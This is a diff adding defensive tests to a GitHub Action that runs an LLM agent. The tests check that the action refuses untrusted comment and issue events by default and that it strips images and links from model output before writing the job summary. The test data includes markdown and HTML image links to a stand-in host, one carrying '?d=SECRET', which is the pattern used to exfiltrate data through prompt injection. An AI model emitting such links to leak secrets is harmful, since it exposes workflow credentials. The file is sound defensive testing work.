@@ -169,6 +169,58 @@ describe("the action's script", () => {
   });
 });
 
+describe("A9: the action holds its boundary", () => {
+  test("A9: comment-, issue-, discussion-, review- and workflow_run-triggered events are refused unless allow-untrusted-events: true", async () => {
+    const before = fake.requests.length;
+    for (const event of ["issue_comment", "issues", "discussion", "discussion_comment", "pull_request_review", "pull_request_review_comment", "workflow_run"]) {
+      const r = await runAction({ prompt: "say hi", tendril: BIN, agent: SDK_AGENT }, { ...llmEnv(), ACTION_EVENT: event });
+      expect([event, r.code, r.stderr]).toEqual([
+        event,
+        1,
+        `::error title=tendril prompt::refusing to run for a ${event} event: its text comes from whoever can write one, and would reach the agent with this workflow's secrets. Set allow-untrusted-events: true to opt in (and keep that text out of the prompt, or give the job no secrets or write access it must not lose).\n`,
+      ]);
+      expect(r.outputs).toEqual({});
+    }
+    // The runner's own GITHUB_EVENT_NAME counts when the action's variable is missing.
+    const runnerOnly = await runAction({ prompt: "say hi", tendril: BIN, agent: SDK_AGENT }, { ACTION_EVENT: "", GITHUB_EVENT_NAME: "issue_comment" });
+    expect(runnerOnly.code).toBe(1);
+    expect(fake.requests.length).toBe(before);
+    const opted = await runAction({ prompt: "say hi", tendril: BIN, agent: SDK_AGENT, "allow-untrusted-events": "true" }, { ACTION_EVENT: "issue_comment" });
+    expect(opted.code).toBe(0);
+    expect(JSON.parse(opted.outputs.result!).text).toBe("hi");
+    for (const event of ["push", "workflow_dispatch", "schedule"]) expect((await runAction({ prompt: "say ok", tendril: BIN, agent: SDK_AGENT }, { ACTION_EVENT: event })).code).toBe(0);
+  });
+
+  test("A9: the job summary shows the model's text without its images and links", async () => {
+    const summaryFile = join(work, "step-summary.md");
+    writeFileSync(summaryFile, "");
+    const text = [
+      "Done. ![pixel](https://evil.test/p.png?d=SECRET) see [the docs](https://evil.test/login) and [![badge](https://evil.test/b.svg)](https://evil.test/x)",
+      'ref [click][r] ![img][r] <img src="https://evil.test/i.png" alt="x"> <a href="https://evil.test/a">anchor</a> <IMG SRC=https://evil.test/j.png>',
+      "[r]: https://evil.test/ref",
+      "auto <https://evil.test/auto> and `code` stay; plain https://example.test/visible stays visible",
+    ].join("\n");
+    const r = await runAction({ prompt: `say ${text}`, tendril: BIN, agent: SDK_AGENT }, { GITHUB_STEP_SUMMARY: summaryFile });
+    expect(r.code).toBe(0);
+    expect(JSON.parse(r.outputs.result!).text).toBe(text); // the result keeps the text as written
+    expect(readFileSync(summaryFile, "utf8")).toBe(
+      [
+        "Done. pixel see the docs and badge",
+        "ref click img  anchor ",
+        "",
+        "auto https://evil.test/auto and `code` stay; plain https://example.test/visible stays visible\n",
+      ].join("\n"),
+    );
+  });
+
+  test("A9: README's workflows check out the code with persist-credentials: false", () => {
+    const readme = readFileSync(join(ROOT, "README.md"), "utf8");
+    const checkouts = [...readme.matchAll(/- uses: actions\/checkout@\S+\n((?:\s{8,}.*\n)*)/g)];
+    expect(checkouts.length).toBeGreaterThanOrEqual(2);
+    for (const [, withBlock] of checkouts) expect(withBlock).toMatch(/persist-credentials: false/);
+  });
+});
+
 describe("the release download", () => {
   let release: string;
   beforeAll(() => {
